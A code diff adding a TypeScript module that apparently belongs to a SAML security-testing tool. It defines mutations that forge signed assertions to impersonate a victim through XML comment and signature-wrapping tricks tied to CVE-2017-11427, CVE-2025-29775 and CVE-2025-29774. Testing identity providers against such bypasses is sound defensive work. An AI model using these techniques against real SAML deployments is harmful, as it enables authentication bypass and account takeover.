@@ -1,0 +1,49 @@
+/** Text that two parsers, or a parser and a canonicalizer, read differently. */
+
+import type { Facts, Mutation } from '../protocol/types.ts';
+import { escapeText } from '../protocol/xml.ts';
+import { edit, editInner, innersOf } from './elements.ts';
+import { findAll, outerOf } from '../protocol/xml-text.ts';
+import { renamed, victimTwin, withNameIdContent, withVictimContent } from './victim.ts';
+
+/** What an attacker appends to the victim's name to get an account of their own at the identity provider. */
+const suffix = '.attacker.example';
+
+/** The identity that is really asserted when the victim's name is only its beginning. */
+export function extendedVictim(facts: Facts): string {
+  return facts.victim.nameId.value + suffix;
+}
+
+/** The signed NameID begins with the victim's and goes on after a comment (CVE-2017-11427 and its siblings). */
+export function nameIdSplitByComment(): Mutation {
+  return {
+    plan: (plan, facts) => renamed(plan, facts.subject.nameId.value, extendedVictim(facts)),
+    // Canonicalization without comments drops it again: the signature stays valid.
+    afterSigning: (xml, facts) => withNameIdContent(xml, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
+  };
+}
+
+/** Content of the victim, the fitting digest as a comment in front of the genuine DigestValue (CVE-2025-29775). */
+export function digestInComment(): Mutation {
+  return {
+    afterSigning: (xml, facts) => {
+      const fitting = innersOf(victimTwin(facts), 'DigestValue');
+      const forged = withVictimContent(xml, facts);
+      return editInner(forged, 'DigestValue', (genuine, index) => `<!--${fitting[index] ?? ''}-->${genuine}`);
+    },
+  };
+}
+
+/** Content of the victim, a second SignedInfo with the fitting digest beside the genuine one (CVE-2025-29774). */
+export function secondSignedInfo(position: 'first' | 'last'): Mutation {
+  return {
+    afterSigning: (xml, facts) => {
+      const twin = victimTwin(facts);
+      const fitting = findAll(twin, 'SignedInfo').map((span) => outerOf(twin, span));
+      return edit(withVictimContent(xml, facts), 'SignedInfo', (genuine, index) => {
+        const forged = fitting[index] ?? '';
+        return position === 'first' ? forged + genuine : genuine + forged;
+      });
+    },
+  };
+}
